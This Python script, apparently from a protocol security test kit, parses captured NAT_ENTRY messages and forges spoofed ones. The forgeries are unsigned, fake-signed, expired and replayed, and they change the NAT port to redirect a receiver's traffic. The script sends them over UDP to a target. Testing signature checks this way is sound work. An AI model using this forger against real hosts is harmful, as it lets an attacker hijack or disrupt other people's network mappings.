#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Shows messages of a NAT, and forges such messages. FILE is a capture by `attacker.py sniff`.

  entries.py list FILE            prints "NAT HOST PROTO NAT_PORT PORT PEER_PORT LIFETIME" for each mapping of a NAT_ENTRY, in order
  entries.py flags FILE SOURCE    prints "MARKED PLAIN": how many messages from SOURCE, other than NAT_ENTRYs, have NS or not
  entries.py forge FILE FROM TO NAT   sends NAT_ENTRYs like the last one in FILE from the address FROM to TO, in the name of NAT;
                                  prints a line "KIND COUNT" for each kind:
    unsigned   without a signature
    stranger   with an unknown key and a made-up signature
    named      with the key of the NAT and a made-up signature
    ended      a captured one in which all mappings have ended
    replay     captured ones, unchanged
"""

import random
import socket
import struct
import sys

from attacker import BLOCK, PORT, SIGNED, octets, seen
from grants import text

NAT_ENTRY = 10
NS = 0x80
TIMES = 5


def entries(file):
    for src, dst, message in seen(file):
        if message[0] == NAT_ENTRY:
            yield src, dst, message


def payload(message):
    """Returns the addresses and records of a message."""
    at = 4 + (BLOCK if message[1] & SIGNED else 0) + 16
    return [message[i:i + 16] for i in range(at, len(message), 16)]


def mappings(file):
    for _, _, message in entries(file):
        nat, host, _, _, *records = payload(message)
        for record in records:
            proto, _, nat_port, port, peer_port, lifetime = struct.unpack_from("!BBHHHH", record)
            yield text(nat), text(host), proto, nat_port, port, peer_port, lifetime


def forged(file, nat):
    true = [message for _, _, message in entries(file)]
    body = payload(true[-1])
    body[0] = octets(nat)
    # This has another port of the NAT. If the receiver believed it, its packets would go to that port.
    proto, zero, nat_port, port, peer_port, life = struct.unpack_from("!BBHHHH", body[4])
    body[4] = struct.pack("!BBHHHH6x", proto, zero, nat_port ^ 1, port, peer_port, life or 600)
    tail = octets(nat) + b"".join(body)
    signer = true[-1][16:48]

    def message(key, number):
        block = b""
        if key:
            stamp = struct.pack("!Q", (1 << 63) + random.getrandbits(40))
            block = struct.pack("!BBH", 1, 0, BLOCK - 4) + stamp + key + random.randbytes(64)
        return struct.pack("!BBH", NAT_ENTRY, SIGNED if key else 0, number) + block + tail

    for _ in range(TIMES):
        number = random.getrandbits(16)
        yield "unsigned", message(None, number)
        yield "stranger", message(random.randbytes(32), number)
        yield "named", message(signer, number)
        last = true[-1]
        ended = [record[:8] + bytes(8) for record in payload(last)[4:]]
        yield "ended", last[:len(last) - 16 * len(ended)] + b"".join(ended)
        yield "replay", random.choice(true)


def forge(file, source, peer, nat):
    family = socket.AF_INET6 if ":" in peer else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.bind((source, 0))
    counts = {}
    for kind, message in forged(file, nat):
        sock.sendto(message, (peer, PORT))
        counts[kind] = counts.get(kind, 0) + 1
    for kind, count in counts.items():
        print(kind, count)


def main():
    random.seed(1)
    verb, file, *words = sys.argv[1:]
    if verb == "list":
        for mapping in mappings(file):
            print(*mapping)
    elif verb == "flags":
        found = [bool(m[1] & NS) for src, _, m in seen(file) if src == words[0] and m[0] != NAT_ENTRY]
        print(found.count(True), found.count(False))
    else:
        forge(file, *words)


if __name__ == "__main__":
    main()
